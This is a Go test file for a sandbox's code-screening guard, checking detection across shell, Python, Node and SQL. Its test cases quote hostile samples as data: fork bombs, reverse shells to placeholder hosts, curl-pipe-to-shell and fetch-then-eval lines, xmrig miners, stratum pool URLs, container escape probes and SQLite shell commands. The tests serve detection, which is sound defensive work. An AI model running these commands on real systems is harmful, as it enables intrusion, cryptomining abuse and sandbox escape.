package guard_test

import (
	"context"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/airlockhq/airlock"
	"github.com/airlockhq/airlock/service/guard"
)

// rule is what a case expects: the rule of a finding, "" for clean code
// (no finding at all).
type ruleCase struct {
	name string
	lang airlock.Language
	code string
	rule string
}

const clean = ""

var (
	sh   = airlock.Bash
	py   = airlock.Python
	node = airlock.Node
	sql  = airlock.SQL
)

// ruleCases covers every rule in every language it applies to, in both
// directions: the flagged code and a clean look-alike.
var ruleCases = []ruleCase{
	// fork bombs
	{"sh classic", sh, ":(){ :|:& };:", guard.RuleForkBomb},
	{"sh named", sh, "bomb() {\n  bomb | bomb &\n}\nbomb", guard.RuleForkBomb},
	{"sh loop on $0", sh, "while true; do \"$0\" & done", guard.RuleForkBomb},
	{"sh recursion that ends", sh, "f() { echo hi; }\nf; f", clean},
	{"sh loop that sleeps", sh, "while true; do sleep 1 & wait; break; done", clean},
	{"py fork in while True", py, "import os\nwhile True:\n    os.fork()", guard.RuleForkBomb},
	{"py fork once", py, "import os\npid = os.fork()\nif pid == 0:\n    os._exit(0)", clean},
	{"py fork in a loop that breaks", py, "import os\nwhile True:\n    os.fork()\n    break", clean},
	{"js spawn in while(true)", node, "const cp = require('child_process');\nwhile (true) { cp.spawn(process.execPath, [__filename]); }", guard.RuleForkBomb},
	{"js fork in for(;;)", node, "const { fork } = require('child_process');\nfor (;;) fork(__filename);", guard.RuleForkBomb},
	{"js spawn in a bounded loop", node, "const cp = require('child_process');\nfor (let i = 0; i < 3; i++) cp.spawnSync('ls');", clean},

	// reverse shells
	{"sh /dev/tcp", sh, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", guard.RuleReverseShell},
	{"sh exec /dev/tcp", sh, "exec 5<>/dev/tcp/host/80", guard.RuleReverseShell},
	{"sh nc -e", sh, "nc -e /bin/sh host 4444", guard.RuleReverseShell},
	{"sh nc flags with e", sh, "nc -nve /bin/bash host 4444", guard.RuleReverseShell},
	{"sh ncat --sh-exec", sh, "ncat --sh-exec /bin/bash host 1", guard.RuleReverseShell},
	{"sh socat exec", sh, "socat TCP:host:4444 EXEC:/bin/sh,pty,stderr", guard.RuleReverseShell},
	{"sh mkfifo pipe", sh, "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc host 4444 > /tmp/f", guard.RuleReverseShell},
	{"sh /dev/tcp as text", sh, "echo \"bash can open /dev/tcp/host/port\"", clean},
	{"sh nc port check", sh, "nc -z localhost 80", clean},
	{"sh socat relay", sh, "socat - TCP:localhost:80", clean},
	{"py socket dup2 pty", py, "import socket, os, pty\ns = socket.socket()\ns.connect(('h', 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')", guard.RuleReverseShell},
	{"py socket dup2 subprocess", py, "import socket as so, subprocess, os\ns = so.socket(so.AF_INET, so.SOCK_STREAM)\ns.connect(('h', 1))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])", guard.RuleReverseShell},
	{"py Popen on the socket", py, "import socket, subprocess\ns = socket.create_connection(('h', 1))\nsubprocess.Popen(['/bin/bash'], stdin=s.fileno(), stdout=s.fileno())", guard.RuleReverseShell},
	{"py nc in os.system", py, "import os\nos.system('nc -e /bin/sh h 4444')", guard.RuleReverseShell},
	{"py socket client", py, "import socket\ns = socket.socket()\ns.connect(('localhost', 80))\ns.send(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(100))", clean},
	{"py dup2 for a file", py, "import os, subprocess\nf = open('log', 'w')\nos.dup2(f.fileno(), 1)\nsubprocess.call(['ls'])", clean},
	{"js net.Socket piped to sh", node, "const net = require('net'), cp = require('child_process');\nconst c = new net.Socket();\nc.connect(4444, 'h', () => {\n  const sh = cp.spawn('/bin/sh', []);\n  c.pipe(sh.stdin);\n  sh.stdout.pipe(c);\n});", guard.RuleReverseShell},
	{"js nc in execSync", node, "const cp = require('child_process');\ncp.execSync(`nc -e /bin/sh h 4444`);", guard.RuleReverseShell},
	{"js socket client", node, "const net = require('net');\nconst c = net.connect(80, 'localhost');\nc.write('hi');", clean},
	{"js pipe without a network", node, "const cp = require('child_process');\nconst p = cp.spawn('ls', ['-l']);\np.stdout.pipe(process.stdout);", clean},

	// download and execute
	{"sh curl | sh", sh, "curl -fsSL https://get.example/install.sh | sh", guard.RuleDownloadExec},
	{"sh wget -O- | bash", sh, "wget -O- http://x/i.sh | bash", guard.RuleDownloadExec},
	{"sh curl | sudo bash -s", sh, "curl -s http://x | sudo bash -s -- --yes", guard.RuleDownloadExec},
	{"sh curl | python3", sh, "curl -s http://x/p.py | python3 -", guard.RuleDownloadExec},
	{"sh bash <(curl)", sh, "bash <(curl -s http://x)", guard.RuleDownloadExec},
	{"sh sh -c $(curl)", sh, "sh -c \"$(curl -fsSL http://x)\"", guard.RuleDownloadExec},
	{"sh eval $(wget)", sh, "eval \"$(wget -qO- http://x)\"", guard.RuleDownloadExec},
	{"sh source <(curl)", sh, "source <(curl -s http://x)", guard.RuleDownloadExec},
	{"sh echo of a pipe", sh, "echo \"curl x | sh\"", clean},
	{"sh curl to a file", sh, "curl -o out.sh http://x", clean},
	{"sh curl | grep", sh, "curl -s http://x | grep -c ok", clean},
	{"sh curl | bash script", sh, "curl -s http://x | bash ./count.sh", clean},
	{"py exec(urlopen().read())", py, "from urllib.request import urlopen\nexec(urlopen('http://x').read())", guard.RuleDownloadExec},
	{"py exec(urllib.request...)", py, "import urllib.request\nexec(urllib.request.urlopen('http://x').read().decode())", guard.RuleDownloadExec},
	{"py eval(requests.get().text)", py, "import requests\neval(requests.get('http://x').text)", guard.RuleDownloadExec},
	{"py exec of a fetched name", py, "import requests\ncode = requests.get('http://x').text\nexec(code)", guard.RuleDownloadExec},
	{"py exec in with", py, "from urllib.request import urlopen\nwith urlopen('http://x') as r:\n    exec(r.read())", guard.RuleDownloadExec},
	{"py walrus fetch", py, "import requests\nif (c := requests.get('http://x').text):\n    exec(c)", guard.RuleDownloadExec},
	{"py curl | sh in os.system", py, "import os\nos.system('curl -s http://x | sh')", guard.RuleDownloadExec},
	{"py pty.spawn of curl | sh", py, "import pty\npty.spawn(['/bin/bash', '-c', 'curl x | sh'])", guard.RuleDownloadExec},
	{"py exec of a literal", py, "exec('print(1)')\neval('1 + 1')", clean},
	{"py fetched and printed", py, "from urllib.request import urlopen\ndata = urlopen('http://x').read()\nprint(data)", clean},
	{"py a pipe printed", py, "print('curl x | sh')", clean},
	{"js https.get then eval", node, "const https = require('https');\nhttps.get('https://x', r => {\n  let d = '';\n  r.on('data', c => d += c);\n  r.on('end', () => eval(d));\n});", guard.RuleDownloadExec},
	{"js fetch then eval", node, "fetch('https://x').then(r => r.text()).then(eval);", guard.RuleDownloadExec},
	{"js new Function of fetched", node, "(async () => {\n  const r = await fetch('https://x');\n  new Function(await r.text())();\n})();", guard.RuleDownloadExec},
	{"js vm of fetched", node, "const vm = require('vm');\nfetch('https://x').then(r => r.text()).then(t => vm.runInThisContext(t));", guard.RuleDownloadExec},
	{"js curl | bash in exec", node, "const { exec } = require('child_process');\nexec('curl -s http://x | bash');", guard.RuleDownloadExec},
	{"js eval of a literal", node, "fetch('https://x').then(r => r.json()).then(console.log);\neval('1 + 1');", clean},
	{"js a pipe printed", node, "console.log('curl x | sh');", clean},
	{"js RegExp exec", node, "const m = /a(b)/.exec('ab');\nconsole.log(m[1]);", clean},

	// miners
	{"sh xmrig", sh, "./xmrig -o pool.example:3333 -u wallet", guard.RuleMiner},
	{"sh nohup xmrig", sh, "nohup /tmp/xmrig --donate-level 1 &", guard.RuleMiner},
	{"sh wrapped miner", sh, "timeout 5 nice -n 19 cpuminer -a sha256d", guard.RuleMiner},
	{"sh nested miner", sh, "bash -c 'sh -c \"bash -c xmrig\"'", guard.RuleMiner},
	{"sh xmrig in a comment", sh, "# xmrig is not run here\nls", clean},
	{"sh xmrig printed", sh, "echo xmrig\nprintf '%s\\n' xmrig", clean},
	{"sh xmrig searched", sh, "grep -r xmrig /var/log || true", clean},
	{"py xmrig argv", py, "import subprocess\nsubprocess.run(['./xmrig', '-o', 'pool:3333'])", guard.RuleMiner},
	{"py xmrig shell=True", py, "import subprocess\nsubprocess.Popen('xmrig --threads 2', shell=True)", guard.RuleMiner},
	{"py aliased run", py, "from subprocess import run as r\nr(['xmrig'])", guard.RuleMiner},
	{"py os.execv", py, "import os\nos.execv('/usr/bin/xmrig', ['xmrig'])", guard.RuleMiner},
	{"py xmrig in a comment", py, "# xmrig\nprint('hello')", clean},
	{"py xmrig printed", py, "print('xmrig')\nname = 'xmrig'\nprint(f'{name} is a miner')", clean},
	{"js spawn xmrig", node, "const { spawn } = require('child_process');\nspawn('xmrig', ['-o', 'x']);", guard.RuleMiner},
	{"js ESM execSync", node, "import { execSync } from 'node:child_process';\nexecSync('./xmrig -o x');", guard.RuleMiner},
	{"js xmrig printed", node, "// xmrig\nconsole.log('xmrig');", clean},

	// mining pools
	{"sh stratum argument", sh, "./run -o stratum+tcp://pool.example:3333", guard.RuleMiningPool},
	{"sh stratum printed", sh, "echo stratum+tcp://pool.example:3333", clean},
	{"py stratum in code that connects", py, "import socket\nPOOL = 'stratum+tcp://pool.example:3333'\ns = socket.create_connection(('pool.example', 3333))", guard.RuleMiningPool},
	{"py stratum in pieces", py, "import socket\nPOOL = ('stratum+' 'tcp://pool.example:3333')\nsocket.create_connection(('pool.example', 3333))", guard.RuleMiningPool},
	{"py stratum escaped", py, "import socket\nPOOL = '\\x73tratum+tcp://pool.example:3333'\nsocket.create_connection(('pool.example', 3333))", guard.RuleMiningPool},
	{"py stratum in code that does not connect", py, "POOL = 'stratum+tcp://pool.example:3333'\nprint(len(POOL))", clean},
	{"py stratum given to a subprocess", py, "import subprocess\nsubprocess.run(['./run', '--url', 'stratum+tcp://pool.example:3333'])", guard.RuleMiningPool},
	{"py stratum printed", py, "print('stratum+ssl://pool.example:443')", clean},
	{"py stratum in a docstring", py, "'''Talks stratum+tcp:// to nobody.'''\nprint(1)", clean},
	{"js stratum", node, "const net = require('net');\nconst pool = 'stratum+tcp://pool.example:3333';\nnet.connect(3333, 'pool.example');", guard.RuleMiningPool},
	{"js stratum in code that does not connect", node, "const pool = 'stratum+tcp://pool.example:3333';\nconsole.log(pool.length);", clean},
	{"js stratum over WebSocket", node, "const WebSocket = require('ws');\nnew WebSocket('wss://x').send(JSON.stringify({ url: 'stratum+ssl://pool.example:443' }));", guard.RuleMiningPool},
	{"js stratum printed", node, "console.log(`stratum+tcp://pool.example:3333`);", clean},

	// escape probes
	{"sh mount", sh, "mount -t proc proc /mnt", guard.RuleEscapeProbe},
	{"sh nsenter", sh, "nsenter -t 1 -m -u -n -i sh", guard.RuleEscapeProbe},
	{"sh unshare", sh, "sudo unshare -r whoami", guard.RuleEscapeProbe},
	{"sh /proc/1/root", sh, "ls /proc/1/root/etc", guard.RuleEscapeProbe},
	{"sh docker.sock", sh, "curl --unix-socket /var/run/docker.sock http://x/containers/json", guard.RuleEscapeProbe},
	{"sh cgroup write", sh, "echo 1 > /sys/fs/cgroup/x/notify_on_release", guard.RuleEscapeProbe},
	{"sh cgroup mkdir", sh, "mkdir /sys/fs/cgroup/rdma/x", guard.RuleEscapeProbe},
	{"sh cgroup tee", sh, "echo /tmp/x | tee /sys/fs/cgroup/release_agent", guard.RuleEscapeProbe},
	{"sh cgroup read", sh, "cat /sys/fs/cgroup/memory.max", clean},
	{"sh mount as a word", sh, "echo \"mount the drive\"; ls /proc/self/status", clean},
	{"py mount in os.system", py, "import os\nos.system('mount /dev/sda1 /mnt')", guard.RuleEscapeProbe},
	{"py cgroup write", py, "open('/sys/fs/cgroup/release_agent', 'w').write('/x')", guard.RuleEscapeProbe},
	{"py cgroup write_text", py, "from pathlib import Path\nPath('/sys/fs/cgroup/x/cgroup.procs').write_text('1')", guard.RuleEscapeProbe},
	{"py /proc/1/root", py, "import os\nos.listdir('/proc/1/root')", guard.RuleEscapeProbe},
	{"py ctypes mount", py, "import ctypes\nlibc = ctypes.CDLL(None)\nlibc.mount(b'none', b'/mnt', b'tmpfs', 0, None)", guard.RuleEscapeProbe},
	{"py os.unshare", py, "import os\nos.unshare(os.CLONE_NEWUSER)", guard.RuleEscapeProbe},
	{"py cgroup read", py, "print(open('/sys/fs/cgroup/memory.max').read())", clean},
	{"py host path printed", py, "print('/proc/1/root')", clean},
	{"js cgroup write", node, "const fs = require('fs');\nfs.writeFileSync('/sys/fs/cgroup/release_agent', '/x');", guard.RuleEscapeProbe},
	{"js /proc/1/root", node, "const fs = require('fs');\nfs.readdirSync('/proc/1/root');", guard.RuleEscapeProbe},
	{"js docker.sock", node, "const http = require('http');\nhttp.request({ socketPath: '/var/run/docker.sock', path: '/containers/json' });", guard.RuleEscapeProbe},
	{"js nsenter", node, "require('child_process').execSync('nsenter -t 1 -m sh');", guard.RuleEscapeProbe},
	{"js cgroup read", node, "const fs = require('fs');\nconsole.log(fs.readFileSync('/sys/fs/cgroup/memory.max', 'utf8'));", clean},

	// SQL
	{"sql ATTACH", sql, "ATTACH DATABASE '/tmp/x.db' AS x;", guard.RuleSQLAttach},
	{"sql attach lower case", sql, "create table t(a);\nattach '/etc/passwd' as p;", guard.RuleSQLAttach},
	{"sql EXPLAIN ATTACH", sql, "EXPLAIN ATTACH 'x.db' AS x;", guard.RuleSQLAttach},
	{"sql ATTACH in a string", sql, "SELECT 'ATTACH x';\n-- ATTACH 'y' AS y;\nCREATE TABLE attach_log(a);", clean},
	{"sql load_extension", sql, "SELECT load_extension('/tmp/x.so');", guard.RuleSQLExtension},
	{"sql quoted load_extension", sql, "SELECT \"load_extension\"\n  ('/tmp/x.so');", guard.RuleSQLExtension},
	{"sql load_extension in a trigger", sql, "CREATE TABLE t(a);\nCREATE TRIGGER tr AFTER INSERT ON t BEGIN\n  SELECT 1;\n  SELECT load_extension('x');\nEND;", guard.RuleSQLExtension},
	{"sql .load", sql, ".load /tmp/evil", guard.RuleSQLExtension},
	{"sql load_extension as text", sql, "SELECT 'load_extension(x)';\nCREATE TABLE notes(load_extension_note TEXT);", clean},
	{"sql .shell", sql, ".shell id", guard.RuleSQLShell},
	{"sql .system", sql, "SELECT 1;\n.system id", guard.RuleSQLShell},
	{"sql .sh abbreviated", sql, ".sh id", guard.RuleSQLShell},
	{"sql .output pipe", sql, ".output |cat", guard.RuleSQLShell},
	{"sql .once quoted pipe", sql, ".once '|nc h 1'", guard.RuleSQLShell},
	{"sql .import pipe", sql, ".import '|curl -s http://x' t", guard.RuleSQLShell},
	{"sql .read pipe", sql, ".read '|cat x'", guard.RuleSQLShell},
	{"sql .shell in a string", sql, "SELECT 'a\n.shell id';", clean},
	{"sql .open", sql, ".open /tmp/other.db", guard.RuleSQLFile},
	{"sql .output file", sql, ".output /tmp/out.txt\nSELECT 1;", guard.RuleSQLFile},
	{"sql settings", sql, ".headers on\n.mode column\nCREATE TABLE t(a INTEGER);\nINSERT INTO t VALUES (1);\nSELECT * FROM t;", clean},
	{"sql .shell curl | sh", sql, ".shell curl -s http://x | sh", guard.RuleDownloadExec},
	{"sql .system xmrig", sql, ".system xmrig", guard.RuleMiner},

	// a session's argv
	{"argv xmrig", airlock.Command, "xmrig\x00-o\x00pool:3333", guard.RuleMiner},
	{"argv bash -c", airlock.Command, "bash\x00-c\x00curl -s x | sh", guard.RuleDownloadExec},
	{"argv echo", airlock.Command, "echo\x00xmrig", clean},
	{"argv words are no shell", airlock.Command, "true\x00;xmrig\x00$(xmrig)", clean},
	{"argv with bytes no shell could quote", airlock.Command, "xmrig\x00\xff", guard.RuleMiner},
	// argv of several lines: quoted as $'...' for the shell parser, whose
	// escapes must be decoded before the code is parsed again.
	{"argv python -c, lines", airlock.Command, "python3\x00-c\x00import time\nprint(1)\n", clean},
	{"argv python -c, lines, shell inside", airlock.Command, "python3\x00-c\x00import os\nos.system('curl -s x | sh')\n", guard.RuleDownloadExec},
	{"argv bash -c, lines", airlock.Command, "bash\x00-c\x00cd /tmp\necho 'a\tb'\n", clean},
}

func newGuard(t testing.TB, cfg guard.Config) *guard.Guard {
	t.Helper()
	g, err := guard.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func rules(fs []airlock.GuardFinding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule)
	}
	return out
}

// check is what the run's screen does: a command given as an argv
// (language command, its arguments joined by NULs here) goes to
// CheckArgv as the argv it is, other code to Check.
func check(g *guard.Guard, ctx context.Context, lang airlock.Language, code string) []airlock.GuardFinding {
	if lang == airlock.Command {
		return g.CheckArgv(ctx, strings.Split(code, "\x00"))
	}
	return g.Check(ctx, lang, code)
}

func TestRules(t *testing.T) {
	g := newGuard(t, guard.Config{})
	for _, tt := range ruleCases {
		t.Run(string(tt.lang)+"/"+tt.name, func(t *testing.T) {
			if tt.lang == py && !guard.PythonParser {
				t.Skip("built without cgo: no Python parser")
			}
			fs := check(g, context.Background(), tt.lang, tt.code)
			if tt.rule == clean {
				if len(fs) > 0 {
					t.Errorf("clean code has findings: %v", fs)
				}
				return
			}
			if !slices.Contains(rules(fs), tt.rule) {
				t.Errorf("findings %v, want one of rule %s", fs, tt.rule)
			}
			for _, f := range fs {
				if f.Severity != guard.Severity[f.Rule] || f.Line < 1 || f.Column < 1 || f.Message == "" {
					t.Errorf("malformed finding %+v", f)
				}
				if f.Rule == guard.RuleParseError {
					t.Errorf("the code did not parse: %v", f)
				}
			}
		})
	}
}

// Every rule but the guard's own has a case that flags it.
func TestEveryRuleCovered(t *testing.T) {
	seen := map[string]map[airlock.Language]bool{}
	for _, tt := range ruleCases {
		if seen[tt.rule] == nil {
			seen[tt.rule] = map[airlock.Language]bool{}
		}
		seen[tt.rule][tt.lang] = true
	}
	for _, r := range guard.Rules {
		switch r {
		case guard.RuleTimeout, guard.RuleLimit, guard.RuleParseError:
			continue // TestBounds
		}
		if len(seen[r]) == 0 {
			t.Errorf("no case flags rule %s", r)
		}
		if _, ok := guard.Severity[r]; !ok {
			t.Errorf("rule %s has no severity", r)
		}
	}
	for _, r := range []string{guard.RuleForkBomb, guard.RuleReverseShell, guard.RuleDownloadExec, guard.RuleMiner, guard.RuleMiningPool, guard.RuleEscapeProbe} {
		for _, l := range []airlock.Language{sh, py, node} {
			if !seen[r][l] {
				t.Errorf("rule %s has no %s case", r, l)
			}
		}
	}
}

// Findings are placed where the code is; shell inside a string is placed
// where the string is.
func TestPlaces(t *testing.T) {
	g := newGuard(t, guard.Config{})
	tests := []struct {
		lang       airlock.Language
		code       string
		rule       string
		line, col  int
		excerptHas string
	}{
		{sh, "echo hi\n  xmrig -o x", guard.RuleMiner, 2, 3, "xmrig -o x"},
		{sh, "ls\nbash -c 'curl x | sh'", guard.RuleDownloadExec, 2, 9, "bash -c"},
		{py, "import os\nos.system('xmrig')", guard.RuleMiner, 2, 11, "os.system"},
		{py, "import os\nmatch 1:\n    case 1:\n        os.system(f'ls'); os.system('nsenter -t 1')", guard.RuleEscapeProbe, 4, 37, "nsenter"},
		{node, "const {exec} = require('child_process');\nexec('xmrig')", guard.RuleMiner, 2, 6, "exec('xmrig')"},
		{node, "const fs = require('fs');\n\n   fs.writeFileSync('/sys/fs/cgroup/x', '1')", guard.RuleEscapeProbe, 3, 7, "writeFileSync"},
		{sql, "SELECT 1;\n  ATTACH 'x' AS y;", guard.RuleSQLAttach, 2, 3, "ATTACH"},
		{sql, "SELECT 1;\n.shell xmrig", guard.RuleMiner, 2, 1, ".shell xmrig"},
	}
	for _, tt := range tests {
		if tt.lang == py && !guard.PythonParser {
			continue
		}
		fs := check(g, context.Background(), tt.lang, tt.code)
		i := slices.IndexFunc(fs, func(f airlock.GuardFinding) bool { return f.Rule == tt.rule })
		if i < 0 {
			t.Errorf("%s %q: no %s in %v", tt.lang, tt.code, tt.rule, fs)
			continue
		}
		f := fs[i]
		if f.Line != tt.line || f.Column != tt.col || !strings.Contains(f.Excerpt, tt.excerptHas) {
			t.Errorf("%s %q: %s at %d:%d excerpt %q, want %d:%d with %q", tt.lang, tt.code, tt.rule, f.Line, f.Column, f.Excerpt, tt.line, tt.col, tt.excerptHas)
		}
	}
}

// The grammars the images run: Python 3.11 and modern JavaScript parse
// without a parse error.
func TestModernSyntax(t *testing.T) {
	g := newGuard(t, guard.Config{})
	tests := []struct {
		lang airlock.Language
		code string
	}{
		{py, "from dataclasses import dataclass\n\n@dataclass\nclass P:\n    x: int = 0\n\ndef f(v: int | None) -> str:\n    match v:\n        case None:\n            return 'none'\n        case int(n) if (m := n * 2) > 2:\n            return f\"{m=} {'quoted'!r:>10} {v!s}\"\n        case _:\n            return f'{v}'\n\ntry:\n    raise ExceptionGroup('g', [ValueError()])\nexcept* ValueError as eg:\n    print(eg)\n\nasync def g():\n    async with x as y:\n        return [i async for i in y]\nprint(*[1, 2], **{})\nlambda *a, **k: (yield)\n"},
		{node, "import fs from 'node:fs';\nexport const f = async (a, ...rest) => {\n  const { b = 1, ...more } = a ?? {};\n  for await (const x of gen()) console.log(x);\n  return `t ${a?.b?.[0]?.(1)} ${`nested ${b}`}`;\n};\nclass A extends B {\n  #p = 1;\n  static s = 2;\n  static { init(); }\n  get x() { return this.#p ??= 3; }\n  async *gen() { yield* other(); }\n}\nconst n = 1_000_000n ** 2n;\nlet r = /(?<year>\\d{4})/u;\nlabel: for (const [k, v] of Object.entries(o)) { if (k) continue label; }\n"},
	}
	for _, tt := range tests {
		if tt.lang == py && !guard.PythonParser {
			continue
		}
		if fs := check(g, context.Background(), tt.lang, tt.code); len(fs) > 0 {
			t.Errorf("%s: findings in clean modern code: %v", tt.lang, fs)
		}
	}
}

// The guard's own bounds: size, time, findings, nesting, excerpts; and
// code that does not parse.
func TestBounds(t *testing.T) {
	ctx := context.Background()
	t.Run("size", func(t *testing.T) {
		g := newGuard(t, guard.Config{MaxBytes: 100})
		fs := check(g, ctx, sh, strings.Repeat("echo hi\n", 20))
		if len(fs) != 1 || fs[0].Rule != guard.RuleLimit || !fs[0].Blocks() {
			t.Errorf("code over the size bound: %v", fs)
		}
	})
	t.Run("time", func(t *testing.T) {
		g := newGuard(t, guard.Config{Timeout: 1})
		for _, lang := range []airlock.Language{sh, py, node, sql} {
			code := strings.Repeat("ls -l /tmp | sort | uniq -c; x = f(1, 2) + g[3]; SELECT 1;\n", 15000)
			fs := check(g, ctx, lang, code)
			if !slices.Contains(rules(fs), guard.RuleTimeout) {
				t.Errorf("%s: a check past its deadline: %v", lang, fs)
			}
		}
	})
	t.Run("findings", func(t *testing.T) {
		g := newGuard(t, guard.Config{MaxFindings: 3})
		fs := check(g, ctx, sh, strings.Repeat("xmrig\n", 100))
		if len(fs) != 4 || fs[3].Rule != guard.RuleLimit {
			t.Errorf("findings over the bound: %v", fs)
		}
	})
	t.Run("nesting", func(t *testing.T) {
		g := newGuard(t, guard.Config{})
		for _, tt := range []struct {
			lang airlock.Language
			code string
		}{
			{sh, strings.Repeat("(", 100000) + strings.Repeat(")", 100000)},
			{node, strings.Repeat("(", 100000) + strings.Repeat(")", 100000)},
			{sh, strings.Repeat("if a; then ", 3000) + strings.Repeat("fi; ", 3000)},
			{sh, strings.Repeat("while a; do ", 3000) + strings.Repeat("done; ", 3000)},
		} {
			fs := check(g, ctx, tt.lang, tt.code)
			if !slices.Contains(rules(fs), guard.RuleLimit) {
				t.Errorf("%s %.20q: deep nesting: %v", tt.lang, tt.code, fs)
			}
		}
		if guard.PythonParser {
			// tree-sitter does not recurse: deep Python is parsed.
			check(g, ctx, py, "x = "+strings.Repeat("(", 100000)+"1"+strings.Repeat(")", 100000))
		}
	})
	t.Run("excerpt", func(t *testing.T) {
		g := newGuard(t, guard.Config{})
		fs := check(g, ctx, sh, strings.Repeat("a", 10000)+"=1; xmrig "+strings.Repeat("\x01é", 5000))
		if len(fs) != 1 || len(fs[0].Excerpt) > airlock.MaxExcerptBytes || !strings.Contains(fs[0].Excerpt, "xmrig") {
			t.Errorf("excerpt of a long line: %v", fs)
		}
	})
	t.Run("parse errors", func(t *testing.T) {
		g := newGuard(t, guard.Config{})
		for _, tt := range []struct {
			lang airlock.Language
			code string
		}{
			{sh, "xmrig\nif then fi ((("},
			{py, "import os\nos.system('xmrig')\ndef (:\n"},
			{node, "const {exec} = require('child_process');\nexec('xmrig');\nfunction ( {"},
		} {
			if tt.lang == py && !guard.PythonParser {
				continue
			}
			fs := check(g, ctx, tt.lang, tt.code)
			if got := rules(fs); !slices.Contains(got, guard.RuleParseError) {
				t.Errorf("%s: broken code: %v", tt.lang, fs)
			}
			for _, f := range fs {
				if f.Rule == guard.RuleParseError && f.Blocks() {
					t.Errorf("a parse error blocks: %v", f)
				}
			}
			if tt.lang == py && !slices.Contains(rules(fs), guard.RuleMiner) {
				t.Errorf("python: what parsed was not checked: %v", fs)
			}
		}
	})
	t.Run("depth", func(t *testing.T) {
		code := "bash -c 'sh -c \"eval xmrig\"'" // xmrig three levels down
		for _, tt := range []struct {
			depth int
			found bool
		}{{2, false}, {3, true}} {
			fs := newGuard(t, guard.Config{MaxDepth: tt.depth}).Check(ctx, sh, code)
			if got := slices.Contains(rules(fs), guard.RuleMiner); got != tt.found {
				t.Errorf("MaxDepth %d: %v", tt.depth, fs)
			}
		}
	})
	t.Run("other languages", func(t *testing.T) {
		g := newGuard(t, guard.Config{})
		if fs := check(g, ctx, "cobol", "xmrig"); len(fs) != 0 {
			t.Errorf("a language without a parser: %v", fs)
		}
	})
}

// Inputs made to make the walks work hard return within the bound, with
// or without a guard-timeout.
func TestHostileInputsEnd(t *testing.T) {
	const bound = time.Second
	g := newGuard(t, guard.Config{Timeout: bound})
	n := 60000
	tests := []struct {
		lang airlock.Language
		code string
	}{
		{py, "import urllib\nx = " + strings.Repeat("exec(", n) + "urlopen(u)" + strings.Repeat(")", n)},
		{py, "import urllib\n" + strings.Repeat("a = (b := urlopen(u))\n", n)},
		{py, strings.Repeat("'stratum+tcp://x'\n", n)},
		{py, "import os\nos.system('" + strings.Repeat("xmrig;", n) + "')"},
		{sh, strings.Repeat("f() { f | f & }\n", n/4)},
		{sh, "eval '" + strings.Repeat("xmrig;", n) + "'"},
		{node, strings.Repeat("while (true) { ", 1000) + strings.Repeat("}", 1000)},
		{node, strings.Repeat("eval(x);", n) + "fetch(u)"},
		{sql, strings.Repeat("TRIGGER ", n)},
		{sql, strings.Repeat("ATTACH 'x' AS y;\n", n/10)},
		{sql, strings.Repeat("SELECT load_extension('x');", n/10)},
	}
	for _, tt := range tests {
		if tt.lang == py && !guard.PythonParser {
			continue
		}
		start := time.Now()
		fs := check(g, context.Background(), tt.lang, tt.code)
		if d := time.Since(start); d > bound+time.Second {
			t.Errorf("%s %.40q...: %v, past the bound", tt.lang, tt.code, d)
		}
		if len(fs) > 51 {
			t.Errorf("%s: %d findings", tt.lang, len(fs))
		}
	}
}
